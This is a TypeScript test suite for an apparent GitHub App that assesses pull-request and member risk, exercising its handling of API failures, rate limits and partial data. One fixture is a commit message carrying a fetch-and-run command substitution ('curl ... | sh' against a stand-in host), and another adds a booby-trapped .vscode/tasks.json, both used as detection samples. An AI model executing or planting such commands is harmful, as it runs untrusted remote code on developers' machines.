import { addOrganization, addRepository, addUser } from "@sallyport/simulator/src/build/build.ts";
import { installApp } from "@sallyport/simulator/src/build/build-app.ts";
import { addedFile, openPullRequest } from "@sallyport/simulator/src/build/build-work.ts";
import { type Fault, primaryLimit, secondaryLimit } from "@sallyport/simulator/src/http/faults.ts";
import { checkSuiteWebhook } from "@sallyport/simulator/src/payload/check.ts";
import type { Webhook } from "@sallyport/simulator/src/payload/common.ts";
import { memberWebhook } from "@sallyport/simulator/src/payload/member.ts";
import { pullRequestWebhook } from "@sallyport/simulator/src/payload/pull-request.ts";
import { buildElsewhere } from "@sallyport/simulator/src/scenarios/history.ts";
import { createWorld, type PullRequest, type User } from "@sallyport/simulator/src/world/world.ts";
import type { UnavailableReason } from "../../src/absence.ts";
import type { Band } from "../../src/assessment/assessment.ts";
import { bandRank } from "../../src/assessment/bands.ts";
import { levelRank } from "../../src/assessment/levels.ts";
import { plusDays } from "../../src/clock.ts";
import { SECTION_NAMES } from "../../src/dossier/dossier.ts";
import type { SectionName } from "../../src/dossier/facts.ts";
import type { Report } from "../../src/store/store.ts";
import { eventually } from "../store/eventually.ts";
import { afterAll, afterEach, beforeAll, expect, test } from "../support/jest.ts";
import { BOOBY_TRAP, denounce, returnedAccount } from "../support/people.ts";
import { inCampaigns, someOf } from "../support/rows.ts";
import { headOf, NO_DEEP_SCANS, type RunningApp, runApp, writePolicy } from "../support/running-app.ts";

const NOW = "2026-03-02T10:00:00.000Z";
const world = createWorld();
const owner = addUser(world, { login: "olga-example", createdAt: "2015-01-01T00:00:00Z" });
const organization = addOrganization(world, { login: "octo-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
const wallet = addRepository(world, { owner: organization, name: "wallet", createdAt: "2017-01-01T00:00:00Z" });
const places = buildElsewhere(world, NOW);

let app: RunningApp;

beforeAll(async () => {
  // What is looked at here is the triage itself; a deep scan would have it made a second time.
  app = await runApp({ world, organization, owner, now: NOW, live: true, policy: `${NO_DEEP_SCANS}mode: live\n` });
});

afterEach(() => {
  app.sim.faults.clear();
  app.sim.expectNoViolations();
});

afterAll(async () => {
  await app.stop();
});

const status = (code: number, message?: string): Fault => ({
  kind: "status",
  status: code,
  ...(message && { message }),
});
const partial = (...path: readonly string[]): Fault => ({ kind: "partial", path });
const FORBIDDEN = status(403, "Resource not accessible by integration");
const RESET_AT = plusDays(NOW, 1 / 72);

/** What GitHub can answer instead, and the word for it. */
const ANSWERS: Readonly<Record<string, readonly [Fault, UnavailableReason]>> = {
  "404": [status(404), "not_found"],
  "403": [FORBIDDEN, "forbidden"],
  "403, the hour's limit": [primaryLimit(RESET_AT), "rate_limited"],
  "429, a secondary limit": [secondaryLimit(40), "rate_limited"],
  "500": [status(500), "upstream_error"],
  "502": [status(502), "upstream_error"],
  "503": [status(503), "upstream_error"],
  "a closed connection": [{ kind: "reset" }, "upstream_error"],
};

/** What is missing when an operation of the triage goes wrong; nothing for what only adds to what is known. */
const SECTIONS: Readonly<Record<string, readonly SectionName[]>> = {
  "pulls/list-files": ["change.files"],
  "graphql/AuthorHistory": ["account.repositories", "account.pullRequests", "account.activity", "account.texts"],
  "users/list-gpg-keys-for-user": ["account.keys"],
  "users/list-ssh-signing-keys-for-user": ["account.keys"],
  "activity/list-public-events-for-user": [],
};

const failures = Object.entries(SECTIONS).flatMap(([operation, sections]) =>
  Object.entries(ANSWERS).map(([name, [fault, reason]]) => ({ operation, name, fault, reason, sections })),
);
const holes = [
  { path: ["node", "owned"], sections: ["account.repositories", "account.activity", "account.texts"] },
  { path: ["node", "prs"], sections: ["account.pullRequests", "account.activity", "account.texts"] },
  { path: ["node", "issues"], sections: ["account.activity", "account.texts"] },
  { path: ["mergedElsewhere"], sections: ["account.pullRequests"] },
] as const;

test.each(someOf(failures, 5))(
  "triage: what is missing is listed, and weighs nothing, when $operation answers $name",
  async ({ operation, fault, reason, sections }) => {
    const { faulty, whole } = await withAndWithout(operation, fault);
    expect(missing(faulty)).toEqual(sections.map((section) => [section, reason]));
    expectNoWeight(faulty, whole);
  },
);

test("triage: keys that could not be read are asked for again at the next look", async () => {
  const { faulty, whole } = await withAndWithout("users/list-gpg-keys-for-user", status(502));
  const states = [faulty, whole].map(({ dossier }) => dossier.sections["account.keys"].state);
  expect(states).toEqual(["unavailable", "present"]);
});

test.each(someOf(holes, 1))(
  "triage: what is missing is listed, and weighs nothing, when GitHub leaves out $path",
  async ({ path, sections }) => {
    const { faulty, whole } = await withAndWithout("graphql/AuthorHistory", partial(...path));
    expect(missing(faulty)).toEqual(sections.map((section) => [section, "incomplete"]));
    // What is left was asked for again in smaller windows.
    expectNoWeight(faulty, whole, [
      "account.repositories",
      "account.pullRequests",
      "account.activity",
      "account.texts",
    ]);
  },
);

test.each([
  [
    ["node", "commits"],
    ["change.commits", "change.signatures"],
  ],
  [["orgMerged"], ["access.recordHere"]],
])("triage: what is missing is listed, and weighs nothing, when Q1 leaves out %j", async (path, sections) => {
  const { faulty, whole } = await withAndWithout("graphql/PrTriage", partial(...path));
  expect(missing(faulty)).toEqual(sections.map((section) => [section, "incomplete"]));
  // The subjects of the commits are texts too.
  expectNoWeight(faulty, whole, ["change.texts"]);
});

// GitHub is waited for by the machine's clock: eleven seconds.
inCampaigns("triage: the change counts as unknown, not as harmless, when its files do not come in time", async () => {
  const { faulty, whole } = await withAndWithout("pulls/list-files", { kind: "delay", ms: 11_000 });
  expect(missing(faulty)).toEqual([["change.files", "timeout"]]);
  expect([faulty, whole].map(({ assessment }) => assessment.change.level)).toEqual(["unknown", "critical"]);
});

test("triage: the job waits for the moment GitHub names, and asks nothing before", async () => {
  for (const limit of ["secondary", "primary"]) {
    // GitHub's clock stands still here, and its limits are read by it.
    const fault = limit === "secondary" ? secondaryLimit(3_600) : primaryLimit(plusDays(NOW, 1 / 24));
    app.sim.faults.add("graphql/PrTriage", fault, { times: 1 });
    const { pullRequest } = await carrier();
    const before = asked("graphql/PrTriage");
    const snoozedBefore = app.logged("job.snoozed").length;
    await app.sim.deliver(opened(pullRequest));
    await eventually(() => app.logged("job.snoozed").length > snoozedBefore);
    await app.pass(3_500);
    await app.settle();
    expect(asked("graphql/PrTriage")).toBe(before + 1);
    await app.pass(200);
    await app.settle();
    expect(asked("graphql/PrTriage")).toBe(before + 2);
    expect(missing(await app.reportOf(pullRequest))).toEqual([]);
  }
  app.clock.set(NOW);
});

test("triage: the job is tried again, and nothing is lost, when GitHub fails at the first question", async () => {
  const failing = ["404", "500", "502", "503", "a closed connection"];
  const pullRequests: PullRequest[] = [];
  for (const name of someOf(failing, 1)) {
    const [fault] = ANSWERS[name] ?? [status(500)];
    pullRequests.push(await failedOnce("graphql/PrTriage", fault));
  }
  pullRequests.push(await failedOnce("graphql/PrTriage", partial("node")));
  await app.settle();
  for (const pullRequest of pullRequests) expect(missing(await app.reportOf(pullRequest))).toEqual([]);
  expect((await app.service.store.queue.counts()).discarded).toBe(0);
});

test("triage: the job comes back, and the check run is there, when the App may not read pull requests", async () => {
  const pullRequest = await failedOnce("graphql/PrTriage", FORBIDDEN);
  // The check run does not wait for an assessment, nor for there ever to be one.
  await eventually(() => [...world.checkRuns.values()].some(({ headSha }) => headSha === headOf(pullRequest)));
  await app.settle();
  expect(missing(await app.reportOf(pullRequest))).toEqual([]);
  expect((await app.service.store.queue.counts()).discarded).toBe(0);
});

test("sealed check: one, in the end, whatever GitHub answers to it", async () => {
  const pullRequests: PullRequest[] = [];
  for (const name of someOf(["500", "502", "503", "a closed connection"], 1)) {
    const [fault] = ANSWERS[name] ?? [status(500)];
    pullRequests.push(await failedOnce("checks/create", fault));
  }
  pullRequests.push(await failedOnce("checks/create", { kind: "after_commit", status: 502 }));
  // GitHub writes the commit to one place and answers from another: the head it just told us of is unknown there.
  pullRequests.push(await failedOnce("checks/create", status(422, `No commit found for SHA: ${"0".repeat(40)}`)));
  await app.settle();
  for (const { commits } of pullRequests)
    expect([...world.checkRuns.values()].filter(({ headSha }) => headSha === commits[0]?.sha)).toHaveLength(1);
});

test.each([
  ["graphql/RecordHere", "access.recordHere"],
  ["graphql/ActivityHere", "access.lastActivity"],
] as const)("member: what is missing is listed, and weighs nothing, when %s fails", async (operation, section) => {
  for (const [name, [fault, reason]] of someOf(Object.entries(ANSWERS), 1)) {
    const { person } = await carrier();
    wallet.direct.set(person.id, "write");
    const grant = memberWebhook(app.sim.stage, {
      repository: wallet,
      member: person,
      sender: owner,
      action: "added",
      to: "write",
    });
    app.sim.faults.add(operation, fault);
    await app.tell(grant);
    const faulty = await latest(person);
    app.sim.faults.clear();
    await app.tell(grant);
    const whole = await latest(person);
    expect([name, missing(faulty)]).toEqual([name, [[section, reason]]]);
    expect(missing(whole)).toEqual([]);
    expectNoWeight(faulty, whole);
  }
});

test("member: the access is unknown, not low, when nobody can say whether the account is an outside one", async () => {
  const { person } = await carrier();
  wallet.direct.set(person.id, "write");
  app.sim.faults.add("orgs/get-membership-for-user", FORBIDDEN);
  const grant = { repository: wallet, member: person, sender: owner, action: "added", to: "write" } as const;
  await app.tell(memberWebhook(app.sim.stage, grant));
  const report = await latest(person);
  expect(missing(report)).toEqual([["access.grant", "forbidden"]]);
  expect(report.assessment.access.level).toBe("unknown");
});

test("triage: the change is unknown, not low, when its commit subjects were left out", async () => {
  const by = returnedAccount(world, { login: "subject-example", places, now: NOW });
  const message = "Tidy $(curl -s https://example.invalid/s | sh)";
  const work = { author: by, title: "Tidy", at: NOW, commits: [{ by, at: NOW, message }] };
  const pullRequest = openPullRequest(world, wallet, work);
  await app.tell(opened(pullRequest));
  const whole = await app.reportOf(pullRequest);
  app.sim.faults.add("graphql/PrTriage", partial("node", "commits"));
  await app.tell(rerun(pullRequest));
  const levels = [whole, await app.reportOf(pullRequest)].map(({ assessment }) => assessment.change.level);
  expect(levels).toEqual(["high", "unknown"]);
});

test("policy: the check run waits, and what was read last stays in force, when the policy cannot be read", async () => {
  const second = addOrganization(world, { login: "second-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
  const place = addRepository(world, { owner: second, name: "relayer", createdAt: "2017-01-01T00:00:00Z" });
  writePolicy(world, second, "version: 1\nmode: live\n");
  app.sim.faults.add("repos/get-content", status(503));
  const installation = await app.install(second, owner);
  const first = openPullRequest(world, place, { author: owner, title: "Tidy", at: NOW });
  await app.sim.deliver(opened(first));
  await eventually(() => app.logged("job.held").at(-1)?.kind === "publish-sealed-check");
  app.sim.faults.clear();
  await app.settle();
  expect(missing(await app.reportOf(first, installation))).toEqual([]);
  const runsHere = () => [...world.checkRuns.values()].filter(({ repositoryId }) => repositoryId === place.id);
  expect(runsHere()).toHaveLength(1);
  app.clock.set(plusDays(NOW, 1 / 12));
  app.sim.faults.add("repos/get-content", status(503));
  await app.tell(opened(openPullRequest(world, place, { author: owner, title: "Tidy more", at: NOW })));
  expect(runsHere()).toHaveLength(2);
  app.clock.set(NOW);
});

test("an installation nobody told of: its pull request is looked at all the same", async () => {
  const late = addOrganization(world, { login: "late-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
  const place = addRepository(world, { owner: late, name: "relayer", createdAt: "2017-01-01T00:00:00Z" });
  const [known] = world.apps.values();
  if (known === undefined) throw new Error("the App is registered by now");
  const installation = installApp(world, known, { account: late, at: NOW });
  const pullRequest = openPullRequest(world, place, { author: owner, title: "Tidy", at: NOW });
  await app.tell(opened(pullRequest));
  expect(missing(await app.reportOf(pullRequest, installation))).toEqual([]);
});

let count = 0;

/** A pull request that has something to say on every axis, by an account nobody has looked at yet. */
async function carrier(): Promise<{ readonly person: User; readonly pullRequest: PullRequest }> {
  count++;
  const person = returnedAccount(world, { login: `dora-${count}-example`, places, now: NOW });
  await denounce(app.tenant(), person, { by: owner, now: NOW });
  const files = [addedFile(".vscode/tasks.json", BOOBY_TRAP)];
  const pullRequest = openPullRequest(world, wallet, {
    author: person,
    title: "Improve",
    at: NOW,
    files,
    commits: [{ by: owner, at: NOW, message: "Improve", files }],
  });
  return { person, pullRequest };
}

const opened = (pullRequest: PullRequest) =>
  pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner });

/** The report on one head while an operation fails, and again when it does not. */
async function withAndWithout(
  operation: string,
  fault: Fault,
): Promise<{ readonly faulty: Report; readonly whole: Report }> {
  const { pullRequest } = await carrier();
  app.sim.faults.add(operation, fault);
  await app.tell(opened(pullRequest));
  const faulty = await app.reportOf(pullRequest);
  app.sim.faults.clear();
  await app.tell(rerun(pullRequest));
  const whole = await app.reportOf(pullRequest);
  expect(missing(whole)).toEqual([]);
  expect(whole.assessment).toMatchObject({ persona: { band: "review" }, change: { level: "critical" } });
  return { faulty, whole };
}

/** A maintainer's wish for another look, which no brake holds. */
function rerun(pullRequest: PullRequest): Webhook {
  const run = [...world.checkRuns.values()].find(({ headSha }) => headSha === headOf(pullRequest));
  if (run === undefined) throw new Error("the pull request has no check run");
  return checkSuiteWebhook(app.sim.stage, { run, sender: owner });
}

/** Lets the first call of an operation fail, and waits until the job that met it was put back. */
async function failedOnce(operation: string, fault: Fault): Promise<PullRequest> {
  const retries = (): number => app.logged("job.held").length;
  const before = retries();
  app.sim.faults.add(operation, fault, { times: 1 });
  const { pullRequest } = await carrier();
  await app.sim.deliver(opened(pullRequest));
  await eventually(() => retries() > before);
  return pullRequest;
}

const missing = ({ assessment }: Report): readonly (readonly [SectionName, UnavailableReason])[] =>
  assessment.couldNotSee.map(({ section, reason }) => [section, reason]);

/** No axis rises, none falls but for what rested on the missing part, and everything else was seen as it is. */
function expectNoWeight(faulty: Report, whole: Report, shortened: readonly SectionName[] = []): void {
  const [less, more] = [faulty.assessment, whole.assessment];
  expect(bandRank(less.persona.band)).toBeLessThanOrEqual(bandRank(more.persona.band));
  expect(less.persona.bits).toBeLessThanOrEqual(more.persona.bits);
  expect(levelRank(less.change.level)).toBeLessThanOrEqual(levelRank(more.change.level));
  expect(levelRank(less.access.level)).toBeLessThanOrEqual(levelRank(more.access.level));
  expectSupported(less.change.level, more.change.level, less, "C");
  expectSupported(less.access.level, more.access.level, less, "X");
  for (const finding of less.findings) {
    const seen = more.findings.find(({ signal }) => signal === finding.signal);
    if (finding.outcome !== "unknown") expect([finding.signal, finding.outcome]).toEqual([seen?.signal, seen?.outcome]);
  }
  if (bandRank(less.persona.band) < bandRank(more.persona.band)) expect(saysWhy(less)).toBe(true);
  for (const name of SECTION_NAMES) {
    const section = faulty.dossier.sections[name];
    if (section.state === "present" && name !== "account.snapshots" && !shortened.includes(name))
      expect([name, section]).toEqual([name, whole.dossier.sections[name]]);
  }
}

/** A level that fell is the gravest that was still seen, or unknown; never a clean bill. */
function expectSupported(less: Level, more: Level, { findings }: Report["assessment"], axis: "C" | "X"): void {
  if (less === more || less === "unknown") return;
  const seen = findings.filter((finding) => finding.axis === axis && finding.outcome === "fired");
  expect([axis, seen.map(({ severity }) => severity)]).toEqual([axis, expect.arrayContaining([less])]);
}

type Level = Report["assessment"]["change"]["level"];

/** A lower band says that it is one: too little was seen, or it was held back, or something could not be told. */
const saysWhy = ({ persona, findings, couldNotSee }: Report["assessment"]): boolean =>
  persona.band === ("insufficient_evidence" satisfies Band) ||
  persona.heldBackFrom !== null ||
  (couldNotSee.length > 0 && findings.some(({ outcome, axis }) => outcome === "unknown" && axis === "P"));

async function latest(person: User): Promise<Report> {
  const report = await app.tenant().latestReportOf(person.id as never);
  if (report === null) throw new Error("no report on the account");
  return report;
}

const asked = (operation: string): number =>
  app.sim.ledger.entries.filter((entry) => entry.operation === operation).length;
